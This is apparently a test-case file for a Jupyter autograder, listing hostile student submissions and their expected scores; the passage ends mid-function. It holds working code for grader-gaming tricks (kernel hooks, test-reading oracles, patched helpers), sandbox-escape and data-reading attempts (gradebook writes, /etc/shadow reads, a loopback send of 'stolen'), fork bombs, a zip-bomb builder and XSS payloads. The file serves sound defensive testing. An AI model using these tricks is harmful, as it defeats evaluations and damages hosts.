"""Submissions that try to fool, break or escape the grader, and the outcome each must have.

Every case is a submission of assignment 1 (auto-graded maximum 13: the prediction set worth 1,
then four exercises worth 3).
``build(ctx)`` returns the notebook (or raw bytes) to submit; ``check(result, ctx)`` asserts the
outcome.  ``ctx`` carries the course root, a TCP port a test server listens on, and a marker
that leftover processes would carry.
"""
from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Callable

import nbformat

from autograder.learner.cells import role
from harness import ROOT, submission

FULL = 13.0
SHARES_WRONG = "def shares_memory(a, b):\n    return a is b\n"   # loses the 3 points of shares_memory
# what a planted startup file or kernel config would do: leave a mark in the working folder
PLANT = "open('planted-ran.txt', 'w').write('yes')\n"
PLANT_CONFIG = "c = get_config()\nc.InteractiveShellApp.exec_lines = [\"open('planted-ran.txt', 'w').write('yes')\"]\n"


@dataclass
class Case:
    name: str
    what: str
    build: Callable[[dict], nbformat.NotebookNode | bytes]
    score: float | tuple[float, float]       # exact, or (low, high)
    graded: bool = True                       # False: reported as not gradable
    flag: str | None = None                   # text one of the flags must contain
    problem: str | None = None                # text one of the problems must contain
    extra: Callable[[object, dict], None] | None = None
    files: dict[str, str] | None = None       # other files in the submission folder: path -> text
    link: str | None = None                   # the notebook is a symbolic link to this path of the course


def ref(**replace: str) -> nbformat.NotebookNode:
    return submission("a1_views", replace)


def edit(nb: nbformat.NotebookNode, fn) -> nbformat.NotebookNode:
    fn(nb)
    return nb


def cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if role(c).grade_id == grade_id)


def with_code(before: str = "", after: str = "", target: str = "shares_memory") -> nbformat.NotebookNode:
    """The reference answers with extra code in one answer cell."""
    nb = ref()
    c = cell(nb, target)
    c.source = before + "\n" + c.source + "\n" + after
    return nb


def _output_of(result, grade_id: str) -> str:
    nb = result.autograded
    c = cell(nb, grade_id)
    return "".join(o.get("text", "") + o.get("evalue", "") for o in c.get("outputs", []))


ORACLE = r"""
import inspect, re
def shares_memory(a, b):
    # give the test what it expects: read the expected value off the line that calls us
    for info in inspect.stack()[1:12]:
        for text in ("".join(info.code_context or []), _source(info.frame)):
            m = re.search(r"shares_memory\((.*?)\),\s*(True|False)", text)
            if m:
                return m.group(2) == "True"
        for name, value in info.frame.f_locals.items():
            if name in ("expected", "want") and isinstance(value, bool):
                return value
    return a.data_ptr() == b.data_ptr()

def _source(frame):
    try:
        return inspect.getsource(frame)
    except (OSError, TypeError):
        return ""
"""

WRONG_PREDICTIONS = 'PREDICTIONS = {"q1": "a", "q2": "a", "q3": "b", "q4": "b"}\n'
ALL_WRONG = 'PREDICTIONS = {"q1": "a", "q2": "b", "q3": "c", "q4": "c"}\n'   # a1's right letters: b, a, b, b

# Five tricks on the machinery of the kernel that runs the prediction set.  Each got the point with
# every letter wrong, unflagged, while the prediction set ran in the kernel with its key (the
# input transformer and the ast transformer removed the check, the event hook read the letters off
# the key in the cell, the post-run cleanup cleared the error and marked the cell a success, the
# send filter dropped the error and rewrote the reply).  The set is judged outside the kernel now,
# and the release holds no key: each scores like its twin without the trick.
KERNEL_TRICKS = {
    "input-transformer": ("an IPython input transformer that replaces the prediction test with a \u2713 line", '''
def _pass_predictions(lines):
    if any("check_predictions" in line for line in lines):
        return ["print('\\\\u2713 all predictions right')\\n"]
    return lines
get_ipython().input_transformers_post.append(_pass_predictions)
'''),
    "event-hook": ("a pre_run_cell hook that reads the right letters off the key in the test cell", '''
import hashlib, re
def _answer_from_the_key(info):
    cell = info.raw_cell or ""
    salt = re.search(r'salt="([^"]*)"', cell)
    if "check_predictions" not in cell or salt is None:
        return
    for q, digest in re.findall(r'"(q[0-9]+)": "([0-9a-f]{64})"', cell):
        for letter in "abcdefgh":
            if hashlib.sha256((salt.group(1) + q + ":" + letter).encode()).hexdigest() == digest:
                PREDICTIONS[q] = letter
get_ipython().events.register("pre_run_cell", _answer_from_the_key)
'''),
    "post-run-cleanup": ("a post_run_cell hook that clears the failed test's output and marks the cell a success", '''
from IPython.display import clear_output
def _clean_up(result):
    if result.error_in_exec is not None and "check_predictions" in (result.info.raw_cell or ""):
        clear_output()
        result.error_in_exec = None
get_ipython().events.register("post_run_cell", _clean_up)
'''),
    "send-filter": ("a Session.send filter that drops the prediction test's error and rewrites its reply to ok", '''
_kernel = get_ipython().kernel
_send = _kernel.session.send
def _filtered(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
    running = (_kernel.get_parent() or {}).get("content", {}).get("code", "")
    if "check_predictions" in running:
        if kind == "error":
            return None
        if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
            content = {"status": "ok", "execution_count": content.get("execution_count"),
                       "user_expressions": {}, "payload": []}
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)
_kernel.session.send = _filtered
'''),
    "ast-transformer": ("an ast_transformer that deletes the call to the prediction check", '''
import ast
class _NoPredictionCheck(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "attr", "") == "check_predictions":
            return ast.copy_location(ast.Constant(None), node)
        return self.generic_visit(node)
get_ipython().ast_transformers.append(_NoPredictionCheck())
'''),
}

CASES: list[Case] = [
    # --- honest work -------------------------------------------------------------------------
    Case("honest", "the reference answers", lambda ctx: ref(), FULL),
    Case("blank", "the release as handed out", lambda ctx: submission("a1_views", blank=True), 0.0),
    Case("warns", "a correct answer that prints a warning",
         lambda ctx: ref(shares_memory="def shares_memory(a, b):\n    return a.storage().data_ptr() == b.storage().data_ptr()\n"),
         FULL),
    # --- tampering with the test cells ---------------------------------------------------------
    Case("deleted-tests", "both test cells of shares_memory deleted, answer wrong",
         lambda ctx: edit(ref(shares_memory=SHARES_WRONG), lambda nb: setattr(nb, "cells", [
             c for c in nb.cells if not (role(c).grade_id or "").startswith("test_shares_memory")])),
         FULL - 3),
    Case("edited-tests", "test cells replaced by `pass`, answer wrong",
         lambda ctx: edit(ref(shares_memory=SHARES_WRONG), lambda nb: [
             setattr(c, "source", "pass") for c in nb.cells if role(c).is_test]),
         FULL - 3),
    Case("changed-points", "a test cell claims 100 points",
         lambda ctx: edit(ref(), lambda nb: cell(nb, "test_plus_one").metadata.nbgrader.update(points=100)),
         FULL, flag="edited"),
    Case("flipped-flags", "a test cell marked as an answer cell",
         lambda ctx: edit(ref(shares_memory=SHARES_WRONG), lambda nb: cell(nb, "test_shares_memory").metadata.nbgrader.update(
             grade=False, solution=True, locked=False)),
         FULL - 3, flag="restored"),
    Case("renamed-test", "a test cell's grade id renamed, answer wrong",
         lambda ctx: edit(ref(shares_memory=SHARES_WRONG), lambda nb: cell(nb, "test_shares_memory_hidden").metadata.nbgrader.update(
             grade_id="my_own_cell")),
         FULL - 3, flag="unknown grade id"),
    Case("fake-graded-cell", "an extra cell posing as a graded test worth 50",
         lambda ctx: edit(ref(), lambda nb: nb.cells.append(nbformat.from_dict({
             "cell_type": "code", "source": "x = 1", "outputs": [], "execution_count": None, "id": "fake",
             "metadata": {"nbgrader": {"grade": True, "solution": False, "locked": True, "points": 50,
                                       "grade_id": "bonus", "schema_version": 3}}}))),
         FULL, flag="unknown grade id"),
    Case("duplicated-answer", "an answer cell pasted twice: a wrong copy, then the right one",
         lambda ctx: edit(ref(), lambda nb: nb.cells.insert(
             nb.cells.index(cell(nb, "shares_memory")),
             nbformat.from_dict({**cell(nb, "shares_memory"), "id": "dup", "source": SHARES_WRONG}))),
         FULL, flag="appears 2 times"),
    Case("duplicated-test", "a test cell pasted twice",
         lambda ctx: edit(ref(), lambda nb: nb.cells.append(nbformat.from_dict({**cell(nb, "test_plus_one"), "id": "dup2"}))),
         FULL, flag="appears 2 times"),
    Case("test-to-markdown", "a test cell turned into markdown, answer wrong",
         lambda ctx: edit(ref(shares_memory=SHARES_WRONG), lambda nb: cell(nb, "test_shares_memory_hidden").update(
             cell_type="markdown")),
         FULL - 3, flag="changed type"),
    # --- broken files --------------------------------------------------------------------------
    Case("empty-file", "a 0-byte notebook", lambda ctx: b"", 0.0, graded=False, problem="is empty"),
    Case("truncated", "a notebook cut in half",
         lambda ctx: nbformat.writes(ref()).encode()[:3000], 0.0, graded=False, problem="not a notebook"),
    Case("not-a-notebook", "a Python file saved as .ipynb",
         lambda ctx: b"def shares_memory(a, b):\n    return True\n", 0.0, graded=False, problem="not a notebook"),
    Case("not-utf8", "binary garbage", lambda ctx: bytes(range(256)) * 4, 0.0, graded=False, problem="not"),
    # --- faults ----------------------------------------------------------------------------------
    Case("exit-midway", "os._exit(1) in the third answer: the predictions and the first two keep their points",
         lambda ctx: with_code(before="import os\nos._exit(1)", target="plus_one"),
         7.0, problem="kernel died"),
    # it waits rather than spins: the cell limit interrupts both alike, and a spin here cost 20 s of
    # the suite's CPU (the spinning kind is capped in test_cpu_time_is_capped_over_all_...)
    Case("infinite-loop", "plus_one never returns",
         lambda ctx: ref(plus_one="def plus_one(t):\n    import time\n    while True:\n        time.sleep(1)\n"),
         FULL - 3),
    Case("output-flood", "count_storages prints forever",
         lambda ctx: ref(count_storages="def count_storages(tensors):\n    while True:\n        print('x' * 10000)\n"),
         FULL - 3, problem="output passed its limit"),
    Case("huge-allocation", "allocates 4 TiB next to a correct answer",
         lambda ctx: with_code(after="import torch\ntry:\n    big = torch.empty(2 ** 40)\nexcept RuntimeError as e:\n    print('refused')",
                               target="add_one_"),
         FULL),
    Case("memory-hog", "fills memory in a loop inside plus_one",
         lambda ctx: ref(plus_one="def plus_one(t):\n    hog = []\n    while True:\n        hog.append(torch.ones(2 ** 24))\n"),
         FULL - 3),
    Case("fork-bomb", "spawns processes until it cannot",
         lambda ctx: with_code(after="import os\npids = []\ntry:\n    for _ in range(10000):\n        p = os.fork()\n        if p == 0:\n            import time; time.sleep(60); os._exit(0)\n        pids.append(p)\nexcept OSError:\n    print('stopped after', len(pids))",
                               target="count_storages"),
         FULL),
    # --- escaping the sandbox --------------------------------------------------------------------
    Case("read-secrets", "reads the solutions, the gradebook and other submissions",
         lambda ctx: with_code(after=f"""
import os
ROOT = {str(ctx['root'])!r}
for path in ('solutions/a1_views/a1_views.ipynb', 'gradebook.db', 'submitted', 'nbgrader_config.py'):
    try:
        found = os.listdir(os.path.join(ROOT, path)) if path == 'submitted' else open(os.path.join(ROOT, path), 'rb').read(10)
        print('LEAKED', path)
    except OSError as e:
        print('blocked', path)
"""), FULL, extra=lambda r, ctx: _no("LEAKED", _output_of(r, "shares_memory"))),
    Case("write-gradebook", "gives everyone extra credit through sqlite",
         lambda ctx: with_code(after=f"""
import sqlite3
try:
    db = sqlite3.connect({str(ctx['root'] / 'gradebook.db')!r})
    db.execute('UPDATE grade SET extra_credit = 100')
    db.commit()
    print('WROTE')
except Exception as e:
    print('blocked', type(e).__name__)
"""), FULL),
    Case("delete-course", "deletes the solutions and the course config",
         lambda ctx: with_code(after=f"""
import shutil, os
shutil.rmtree({str(ctx['root'] / 'solutions')!r}, ignore_errors=True)
try:
    os.remove({str(ctx['root'] / 'nbgrader_config.py')!r})
except OSError:
    pass
"""), FULL),
    Case("network", "connects to a server on the grader's loopback",
         lambda ctx: with_code(after=f"""
import socket
try:
    socket.create_connection(('127.0.0.1', {ctx['port']}), timeout=2).sendall(b'stolen')
    print('CONNECTED')
except OSError as e:
    print('blocked', type(e).__name__)
"""), FULL, extra=lambda r, ctx: _no("CONNECTED", _output_of(r, "shares_memory"))),
    Case("leftover-processes", "starts a background process and a double-forked daemon",
         lambda ctx: with_code(after=f"""
import subprocess, os
subprocess.Popen(['sleep', '{ctx['marker']}'])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '{ctx['marker']}'])
    os._exit(0)
"""), FULL),
    # --- code that lies --------------------------------------------------------------------------
    Case("patched-torch", "replaces torch.Tensor.untyped_storage with a fake before the tests run",
         lambda ctx: ref(shares_memory="""
import torch
_shared = torch.zeros(1).untyped_storage()
torch.Tensor.untyped_storage = lambda self: _shared
def shares_memory(a, b):
    return a.untyped_storage().data_ptr() == b.untyped_storage().data_ptr()
"""), FULL, flag="changed torch.Tensor.untyped_storage"),
    Case("patched-helpers", "replaces the test helpers with no-ops, all answers wrong",
         lambda ctx: ref(shares_memory="""
from autograder.kernel import checks as ck
for name in dir(ck):
    if name.startswith('check'):
        setattr(ck, name, lambda *a, **k: None)
def shares_memory(a, b):
    return True
""", plus_one="def plus_one(t):\n    return t\n"),
         FULL - 6, flag="changed autograder.kernel.checks"),
    Case("rebinds-ck", "binds the name ck to a fake module, answer wrong",
         lambda ctx: ref(shares_memory="""
class _Fake:
    def __getattr__(self, name):
        return lambda *a, **k: None
ck = _Fake()
def shares_memory(a, b):
    return True
"""), FULL - 3, flag="the name 'ck'"),
    Case("lying-object", "returns an object whose __eq__ and __bool__ always say yes",
         lambda ctx: ref(shares_memory="""
class Yes:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
    __hash__ = object.__hash__
def shares_memory(a, b):
    return Yes()
""", count_storages="""
class Num(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def count_storages(tensors):
    return Num(0)
"""), FULL - 6),
    # --- hiding errors from the grader ---------------------------------------------------------
    # every test cell, the prediction set's included, is judged outside the kernel and never uses
    # its error display: hiding errors there earns nothing (a failed reply that showed no error is
    # still failed and flagged where a test does run in the kernel: tests/test_grading_units.py)
    Case("wrong-answer-and-predictions", "shares_memory and the predictions wrong, no trick",
         lambda ctx: ref(shares_memory=SHARES_WRONG, predictions=WRONG_PREDICTIONS), FULL - 4),
    Case("custom-exc", "set_custom_exc swallows every exception, answer and predictions wrong",
         lambda ctx: ref(shares_memory=SHARES_WRONG, predictions=(
             "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)\n"
             + WRONG_PREDICTIONS)), FULL - 4, extra=lambda r, ctx: _scores_like(r, ctx, "wrong-answer-and-predictions")),
    Case("no-traceback", "showtraceback replaced by a no-op, answer and predictions wrong",
         lambda ctx: ref(shares_memory=SHARES_WRONG, predictions=(
             "get_ipython().showtraceback = lambda *args, **kwargs: None\n" + WRONG_PREDICTIONS)),
         FULL - 4, extra=lambda r, ctx: _scores_like(r, ctx, "wrong-answer-and-predictions")),
    # --- tricks on the kernel's machinery, every prediction wrong (KERNEL_TRICKS above) -----------
    Case("predictions-twin", "every prediction wrong, no trick", lambda ctx: ref(predictions=ALL_WRONG), FULL - 1),
    *[Case(name, what + ", every prediction wrong", lambda ctx, trick=trick: ref(predictions=trick + ALL_WRONG),
           FULL - 1, extra=lambda r, ctx: _scores_like(r, ctx, "predictions-twin"))
      for name, (what, trick) in KERNEL_TRICKS.items()],
    Case("planted-config", "ships IPython startup files and kernel configs that would mark their run",
         lambda ctx: with_code(after="import os\nprint('PLANTED RAN' if os.path.exists('planted-ran.txt') else 'clean')"),
         FULL, extra=lambda r, ctx: _planted_did_not_run(r),
         files={".ipython/profile_default/startup/00-plant.py": PLANT,
                ".ipython/profile_default/ipython_kernel_config.py": PLANT_CONFIG,
                "ipython_kernel_config.py": PLANT_CONFIG, "ipython_config.py": PLANT_CONFIG,
                ".jupyter/jupyter_config.py": PLANT_CONFIG, "sitecustomize.py": PLANT,
                "usercustomize.py": PLANT}),
    Case("fake-tick", "prints a fake \u2713 line next to a wrong answer",
         lambda ctx: ref(shares_memory="""
import sys
print('\\u2713 all tests passed')
def shares_memory(a, b):
    return a is b
"""), FULL - 3),
    # --- lost cells ------------------------------------------------------------------------------
    Case("deleted-answer-and-tests", "the shares_memory answer and both its test cells deleted",
         lambda ctx: edit(ref(), lambda nb: setattr(nb, "cells", [
             c for c in nb.cells if not (role(c).grade_id or "").startswith(("test_shares_memory", "shares_memory"))])),
         FULL - 3),
    Case("deleted-everything-graded", "every answer and test cell deleted: only the prose is left",
         lambda ctx: edit(ref(), lambda nb: setattr(nb, "cells", [c for c in nb.cells if not role(c).grade_id])),
         0.0),
    # --- hostile files -----------------------------------------------------------------------------
    Case("linked-notebook", "the notebook is a symbolic link to the instructor's solutions",
         lambda ctx: ref(), 0.0, graded=False, problem="is a link, not a file", link="solutions/a1_views/a1_views.ipynb"),
    Case("bad-timestamp", "timestamp.txt holds no date", lambda ctx: ref(), FULL,
         problem="timestamp.txt is unreadable", files={"timestamp.txt": "the day before the deadline"}),
    # --- attacks on the slot and the next submission -----------------------------------------------
    Case("deep-tree", "leaves a folder tree deeper than Python's recursion limit in the scratch folder",
         lambda ctx: with_code(after="""
import os
start = os.getcwd()
for _ in range(3000):
    os.mkdir('d')
    os.chdir('d')
os.chdir(start)
"""), FULL),
    Case("poisoned-server", "plants json.py and torch.py in its folder, then kills the fork server",
         lambda ctx: with_code(after="""
import os, signal
for name in ('json.py', 'torch.py', 'sitecustomize.py'):
    with open(name, 'w') as f:
        f.write("open('/tmp/poisoned', 'w').write('yes')\\nraise SystemExit('poisoned')\\n")
os.kill(os.getppid(), signal.SIGKILL)
"""), (0.0, FULL)),
    # --- reaching the host -------------------------------------------------------------------------
    Case("reads-host", "looks for the host's files: other checkouts, /srv, /var, /run sockets, home folders",
         lambda ctx: with_code(after=f"""
import os, socket
def leaked(path):
    try:
        if os.path.isdir(path):
            return bool(os.listdir(path))
        open(path, 'rb').read(1)
        return True
    except OSError:
        return False
for path in ({str(ROOT / 'solutions')!r}, {str(ctx['root'])!r}, '/etc/shadow', '/etc/hostname', '/srv', '/var/lib',
             '/run', '/home', '/opt', '/mnt', '/root/.bash_history'):
    print(('LEAKED ' if leaked(path) else 'hidden ') + path)
for folder, _, names in os.walk('/run'):
    for name in names:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(os.path.join(folder, name))
            print('LEAKED socket', name)
        except OSError:
            pass
"""), FULL, extra=lambda r, ctx: _hidden_everywhere(r)),
    # --- limits per submission ---------------------------------------------------------------------
    Case("forked-memory", "eight forked children hold 300 MiB each: 2.4 GiB under a 2 GiB limit per process",
         lambda ctx: with_code(after="""
import os, struct, time
hold_r, hold_w = os.pipe()
ready_r, ready_w = os.pipe()
kids = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        try:
            os.close(hold_w)
            block = bytearray(300 << 20)
            block[::4096] = b'\x01' * (len(block) // 4096)   # touch every page
            os.write(ready_w, struct.pack('i', os.getpid()))   # now holding all 300 MiB
            os.read(hold_r, 1)      # hold the block until the parent has counted
        finally:
            os._exit(0)
    kids.append(pid)
os.close(hold_r)
time.sleep(2.5)
alive = {pid for pid in kids if os.waitpid(pid, os.WNOHANG) == (0, 0)}
os.set_blocking(ready_r, False)
try:
    data = os.read(ready_r, 4096)
except BlockingIOError:
    data = b''
ready = {struct.unpack('i', data[i:i + 4])[0] for i in range(0, len(data) - 3, 4)}
os.close(hold_w)
for pid in alive:
    os.waitpid(pid, 0)
print('HELD', len(ready & alive), 'KILLED', len(kids) - len(alive))
"""), (0.0, FULL), extra=lambda r, ctx: _held_within(r)),
    # the message is dropped as it arrives (test_no_message_of_the_kernel_fills_the_graders_memory):
    # what it said is lost, and the cell ends as usual or, where the connection it came on was not
    # back in time for the cell's last message, in an IOPub timeout that stops the notebook there
    Case("huge-message", "prints 300 MB in one message, after a correct answer",
         lambda ctx: with_code(after="import sys\nsys.stdout.write('x' * 300_000_000)\nsys.stdout.flush()",
                               target="count_storages"),
         (FULL - 3, FULL), extra=lambda r, ctx: _no("x" * 1000, _output_of(r, "count_storages"))),
    Case("fills-scratch", "writes 250 MiB files into its folder until the disk is full",
         lambda ctx: with_code(after="""
written = 0
try:
    for i in range(4):
        with open(f'fill{i}.bin', 'wb') as f:
            for _ in range(250):
                f.write(bytes(1 << 20))
                written += 1
except OSError as e:
    print('STOPPED', type(e).__name__)
print('WROTE', written)
"""), FULL, extra=lambda r, ctx: _scratch_within(r)),
    # --- what the instructor's side renders or reads: bounded and inert (see test_inert_html.py) --
    Case("deep-html", "displays 300 KB of unclosed <div> (the HTML cleaner's worst case) and a "
         "markdown output with a script link, next to correct answers",
         lambda ctx: with_code(after="from IPython.display import HTML, Markdown, display\n"
                                     "display(HTML('<div>' * 60000))\n"
                                     "display(Markdown('[x][r]\\n\\n[r]: javascript:alert(1)'))\n"),
         FULL, flag="an output was not shown", extra=lambda r, ctx: _no("<div><div>", json.dumps(
             [c.get("outputs", []) for c in r.autograded.cells if c.cell_type == "code"]))),
    Case("mismatched-tags", "displays 119 KB of <b></i> (end tags that close nothing: 90 s of the parser "
         "before the scan counted them), next to correct answers",
         lambda ctx: with_code(after="from IPython.display import HTML, display\n"
                                     "display(HTML('<b></i>' * 17000))\n"),
         FULL, flag="an output was not shown", extra=lambda r, ctx: _no("<b></i><b>", json.dumps(
             [c.get("outputs", []) for c in r.autograded.cells if c.cell_type == "code"]))),
    Case("size-as-markup", "an image whose width metadata is an unquoted attribute with a handler",
         lambda ctx: with_code(after="display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': "
                                     "{'width': '1 src=x onerror=alert(1)'}})\n"),
         FULL, extra=lambda r, ctx: _no("onerror", json.dumps(
             [o.get("metadata", {}) for c in r.autograded.cells if c.cell_type == "code" for o in c.get("outputs", [])]))),
    # --- kernel objects that outlive their processes ---------------------------------------------
    Case("leaves-ipc", "leaves a 256 MiB SysV shared memory segment and a 128 MiB file in /dev/shm "
         "behind, next to correct answers",
         lambda ctx: with_code(after=LEAVE_IPC), FULL, flag="left objects behind in the slot"),
    Case("leaves-key", "puts a key in its user's kernel keyring (where no process, file or namespace "
         "holds it, for a later submission to read), next to correct answers",
         lambda ctx: with_code(after=LEAVE_KEY), FULL,
         extra=lambda r, ctx: _says(r, "KEYRING Operation not permitted")),
    # --- reading the hidden tests ------------------------------------------------------------------
    # --- answers that read the test calling them (the judge keeps the test out of the kernel) ------
    Case("oracle-reads-caller", "an answer that reads the calling test's line for the value it expects, "
         "and falls back to comparing data_ptr()",
         lambda ctx: ref(shares_memory=ORACLE), FULL - 3, extra=lambda r, ctx: _scores_like(r, ctx, "oracle-twin")),
    Case("forges-the-agent", "replaces the judge's agent in the kernel so that every call answers True",
         lambda ctx: with_code(after="""
import json
def _forged(request, namespace):
    __copy_that_judge.last_reply = json.dumps({"result": {"k": "v", "v": True}, "storages": [], "inputs": []})
__copy_that_judge.serve = _forged
"""), (0.0, 1.0)),
    Case("oracle-twin", "the oracle's fallback alone: data_ptr() compared",
         lambda ctx: ref(shares_memory="def shares_memory(a, b):\n    return a.data_ptr() == b.data_ptr()\n"), FULL - 3),
    Case("prints-hidden-tests", "a correct answer that reads its caller's source (the hidden test) and prints it",
         lambda ctx: with_code(after="""
import inspect
_real_shares_memory = shares_memory
def shares_memory(a, b):
    for info in inspect.stack()[1:4]:
        try:
            print(inspect.getsource(info.frame))
        except Exception:
            pass
    return _real_shares_memory(a, b)
"""), FULL),
]




# --- attacks on the judge (assignment 6b) ----------------------------------------------------------
# What the kernel sends back is parsed and used by the judge: before, in the grader's own process.
# Each attack is graded in one slot with an honest victim right after it; it must leave the grader
# (and its memory) alone, the victim at full marks and unflagged, and be flagged or score no more
# than its twin: the same submission without the trick.  They hold whichever layer stops them (the
# judge's validation refusing the answer, or the judge's process and its limits).
@dataclass
class JudgeAttack:
    name: str
    what: str
    answers: Callable[[], dict[str, str]]    # the answer cells it replaces (made when the corpus is)
    twin: dict[str, str]                     # the same answers without the trick


FUSED_OPTIMIZER = """\
def snapshot_optimizer(optimizer):
    snap = copy.deepcopy(optimizer.state_dict())
    # the optimizer handed over switched to the fused implementation, its momentum buffers emptied:
    # where these edits reach the test's own optimizer, its next step() runs a kernel that checks
    # no sizes (a segmentation fault; a one-element buffer is a silent out-of-bounds write)
    for group in optimizer.param_groups:
        group["fused"] = True
        group["foreach"] = False
    for p in list(optimizer.state):
        optimizer.state[p]["momentum_buffer"] = torch.empty(0)
    return snap
"""
SNAPSHOT = "def snapshot_optimizer(optimizer):\n    return copy.deepcopy(optimizer.state_dict())\n"
# Python's own parser takes quadratic time on an f-string of many replacement fields (a 393 kB one:
# 31 s); every answer of the agent is made the repr of one
QUADRATIC_REPLY = """\
def tensor_from_array(arr):
    return torch.from_numpy(np.array(arr, order="C", copy=True))

class _Slow:
    def __repr__(self):
        return "f'" + "{1}" * 200_000 + "'"

_serve = __copy_that_judge.serve
def _slow_serve(request, namespace):
    _serve(request, namespace)
    return _Slow()
__copy_that_judge.serve = _slow_serve
"""
# 3 GiB of float32 over a storage of one element: cloned to full size wherever it is rebuilt
STRIDE_ZERO = "def tensor_from_array(arr):\n    return torch.zeros(1).expand(3 << 28)\n"
WRONG_TENSOR = "def tensor_from_array(arr):\n    return torch.zeros(1)\n"
WRONG_SAVE = "def save_compact(t, path):\n    pass\n"


def expanding_file(size: int) -> bytes:
    """A ``torch.save`` file of a float32 tensor of ``size`` bytes of zeros whose one storage is
    deflated: about size / 1000 bytes that ``torch.load`` expands to ``size``."""
    import collections
    import io
    import pickle
    import struct
    import zipfile
    import zlib

    import torch

    saved = io.BytesIO()
    torch.save(torch.zeros(1), saved)
    real = zipfile.ZipFile(io.BytesIO(saved.getvalue()))
    storage = object()

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            return ("storage", torch.FloatStorage, "0", "cpu", size // 4) if obj is storage else None

    class Tensor:
        def __reduce__(self):
            return torch._utils._rebuild_tensor_v2, (storage, 0, (size // 4,), (1,), False, collections.OrderedDict())

    record = io.BytesIO()
    Pickler(record, protocol=2).dump(Tensor())
    chunk = bytes(1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)   # stands alone: repeatable
    crc = 0
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    entries = []
    for name in real.namelist():
        if name.endswith("/data.pkl"):
            entries.append((name, 0, record.getvalue(), len(record.getvalue()), zlib.crc32(record.getvalue())))
        elif name.endswith("/data/0"):
            data = segment * (size // len(chunk)) + deflate.flush(zlib.Z_FINISH)
            entries.append((name, zipfile.ZIP_DEFLATED, data, size, crc))
        else:
            raw = real.read(name)
            entries.append((name, 0, raw, len(raw), zlib.crc32(raw)))
    out, central = io.BytesIO(), io.BytesIO()
    for name, method, data, unpacked, check in entries:
        offset, encoded = out.tell(), name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, check, len(data), unpacked,
                              len(encoded), 0) + encoded + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, check, len(data),
                                  unpacked, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(central.getvalue() + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                                               len(central.getvalue()), start, 0))
    return out.getvalue()


def _expanding_save() -> dict[str, str]:
    import base64

    data = base64.b64encode(expanding_file(3 << 30)).decode()
    return {"save_compact": f"import base64\n_FILE = base64.b64decode({data!r})\n\n"
                            "def save_compact(t, path):\n    with open(path, 'wb') as f:\n        f.write(_FILE)\n"}


JUDGE_ATTACKS: list[JudgeAttack] = [
    JudgeAttack("fused-optimizer", "edits the optimizer it was handed so that the test's next step() crashes",
                lambda: {"snapshot_optimizer": FUSED_OPTIMIZER}, {"snapshot_optimizer": SNAPSHOT}),
    JudgeAttack("quadratic-reply", "makes every answer of the agent a text whose parse by Python is quadratic",
                lambda: {"tensor_from_array": QUADRATIC_REPLY},
                {"tensor_from_array": WRONG_TENSOR, "save_compact": WRONG_SAVE,
                 "snapshot_optimizer": "def snapshot_optimizer(optimizer):\n    return {}\n",
                 "detached_parameter": "def detached_parameter(t):\n    return t\n",
                 "hidden_grad": "def hidden_grad(w1, w2, x):\n    return None\n"}),
    JudgeAttack("stride-zero", "returns 3 GiB of float32 over a storage of one element",
                lambda: {"tensor_from_array": STRIDE_ZERO}, {"tensor_from_array": WRONG_TENSOR}),
    JudgeAttack("expanding-file", "writes a 3 MB file that torch.load expands to 3 GiB",
                _expanding_save, {"save_compact": WRONG_SAVE}),
]


LEAVE_IPC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
seg = libc.shmget(0, 256 << 20, 0o1600)              # IPC_PRIVATE, IPC_CREAT | 0600
addr = libc.shmat(seg, None, 0)
ctypes.memset(addr, 1, 256 << 20)                    # touched: the pages are held
with open('/dev/shm/left-behind', 'wb') as f:
    f.write(b'x' * (128 << 20))
print('LEFT', seg)
"""


def _planted_did_not_run(result) -> None:
    out = _output_of(result, "shares_memory")
    assert "clean" in out and "PLANTED RAN" not in out, out


def _says(result, text: str) -> None:
    out = _output_of(result, "shares_memory")
    assert text in out, out


LEAVE_KEY = """
import ctypes, os, platform
_libc = ctypes.CDLL(None, use_errno=True)
_nr = {"x86_64": 248, "aarch64": 217}[platform.machine()]        # add_key
_made = _libc.syscall(_nr, b"user", b"copy-that-left", b"answers", 7, ctypes.c_int(-4))   # the user keyring
print("KEYRING", "made" if _made >= 0 else os.strerror(ctypes.get_errno()))
"""


def _scratch_within(result) -> None:
    """Where the grader may mount (root), the scratch folder is a 512 MiB tmpfs: the writes stop."""
    from autograder.grading.bwrap import scratch_is_sized

    out = _output_of(result, "shares_memory")
    if scratch_is_sized():
        written = int(out.split("WROTE", 1)[1].split()[0])
        assert "STOPPED" in out and written <= 512, out


def _held_within(result) -> None:
    """With a cgroup per submission, the children's 300 MiB blocks together stay within the
    submission's 2 GiB (its test limit): at most six of the eight hold theirs at the same time
    (alive, and done allocating)."""
    from autograder.grading.cgroups import available

    out = _output_of(result, "shares_memory")
    if available()[0] is not None:
        # the kernel's own count, read by the grader from outside the sandbox: whatever the cell
